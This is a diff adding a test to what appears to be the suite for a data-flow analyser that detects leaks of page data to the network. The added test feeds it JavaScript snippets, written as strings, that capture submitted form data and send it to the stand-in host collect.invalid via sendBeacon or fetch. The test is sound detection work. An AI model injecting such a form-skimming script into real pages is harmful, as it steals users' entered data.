@@ -23,6 +23,23 @@ describe('events of the package itself', () => {
     });
   }
 
+  it('bring it through the page', () => {
+    const form = `new FormData(e.target)`;
+    const listen = (name: string, use: string): string =>
+      `document.addEventListener('submit', (e) => e.target.dispatchEvent(new CustomEvent('own:sent', { bubbles: true, detail: ${form} }))); document.addEventListener('${name}', ${use});`;
+    const sent = ['keystrokes>network@collect.invalid'];
+    const send = `navigator.sendBeacon('https://collect.invalid', new URLSearchParams([...detail.entries()]))`;
+    assert.deepEqual(flowsOf(listen('own:sent', `({ detail }) => ${send}`)), sent);
+    assert.deepEqual(flowsOf(listen('own:sent', `(event) => { const { detail } = event; ${send}; }`)), sent);
+    assert.deepEqual(flowsOf(listen('own:other', `({ detail }) => ${send}`)), []);
+    assert.deepEqual(
+      flowsOf(
+        `window.dispatchEvent(new CustomEvent('a', { detail: s })); window.addEventListener('a', (e) => fetch('https://collect.invalid', { body: e.detail }));`,
+      ),
+      [SENT],
+    );
+  });
+
   it('do not bring it to who listens to something else', () => {
     assert.deepEqual(flowsOf(`const e = new events(); e.on('y', (v) => ${SEND}(v)); e.emit('x', s);`), []);
   });
